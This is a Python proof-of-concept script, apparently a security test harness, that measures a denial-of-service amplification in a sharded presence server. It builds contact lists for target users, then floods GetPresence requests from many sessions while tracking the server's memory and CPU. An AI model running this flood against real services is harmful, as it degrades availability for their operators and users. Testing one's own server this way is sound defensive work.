"""GetPresence load amplification: N target users (homed on shard TS) each hold C contacts
(outgoing requests to filler users) and accept attacker A; targets go offline. Then A's S
sessions pipeline GetPresence over the targets in a loop for SECS: each needs the target's
whole list loaded from the store (idle cache 1 MiB/256 lists a shard).
usage: presence_load.py TCP HTTP PID N C S SECS [TS]
(SKIP_SETUP=1: the contacts were made before, on this store.)"""
import sys, os, time, threading, socket, select
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from shardnames import *
tcp, http, pid = sys.argv[1], sys.argv[2], int(sys.argv[3])
N, C, S, secs = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])
TS = int(sys.argv[8]) if len(sys.argv) > 8 else 1
host, port = tcp.rsplit(":", 1)
t0 = time.time()
SKIP = os.environ.get("SKIP_SETUP")  # a store set up before (the router restarted on it)
fill = [f"fill{i:05d}" for i in range(C)]
if not SKIP: login_all(tcp, fill)
print(f"fillers logged in {time.time()-t0:.1f}s rss={rss(pid)/1024:.0f}MiB", flush=True)
targets = names_on("tgt", TS, N)
att = names_on("att", 1 - TS, 1)[0]
A = Conn(tcp, att)
def pipe(c, frames, want, n):
    """send frames (bytes list) in a thread; read n answers of kind want; returns status counts"""
    def w():
        c.s.sendall(b"".join(frames))
    th = threading.Thread(target=w); th.start()
    counts = {}
    for _ in range(n):
        r = c.wait(want, 60); s = r.get(2, [0])[0]; counts[s] = counts.get(s, 0) + 1
    th.join(); return counts
for k, t in enumerate([] if SKIP else targets):
    T = Conn(tcp, t)
    fr = [frame(20, {1: i+1, 2: f, 3: 1}) for i, f in enumerate(fill[:C-1])]
    cs = pipe(T, fr, "contact_result", len(fr))
    T.send_frame(20, {1: 99999, 2: att, 3: 1}); T.wait("contact_result", 30)
    A.send_frame(20, {1: k+1, 2: t, 3: 2}); r = A.wait("contact_result", 30)
    T.close()
    print(f"target {t} {cs} accept={r.get(2,[0])[0]} t={time.time()-t0:.0f}s", flush=True)
time.sleep(2)
print(f"setup done {time.time()-t0:.0f}s rss={rss(pid)/1024:.0f}MiB hwm={hwm(pid)/1024:.0f}MiB", flush=True)
# sanity: one GetPresence
A.send_frame(26, {1: 1, 2: targets[0]}); print("getpresence:", A.wait("presence_result", 10))
A.close()
if secs <= 0: sys.exit()
input_ready = os.environ.get("WAITGO")
if input_ready:
    while not os.path.exists(input_ready): time.sleep(0.2)
stop = [False]; got = [0]; statuses = {}
for j in range(S):
    s = socket.create_connection((host, int(port)))
    s.sendall(frame(1, {2: att, 5: f"d{j}"}))
    blk = b"".join(frame(26, {1: i+1, 2: targets[(i*7 + j) % N]}) for i in range(4*N))
    write_loop(s, blk, 4*N, got, lambda: stop[0], float("inf"))
ta = time.time()
while time.time() - ta < secs:
    time.sleep(2)
    print(f"[att t={time.time()-ta:.0f}] rss={rss(pid)/1024:.0f}MiB hwm={hwm(pid)/1024:.0f}MiB cpu={cpu(pid):.1f} {metrics(http, ('store_requests_total','store_queue_requests','page_reads_waiting'))}", flush=True)
stop[0] = True
time.sleep(1)
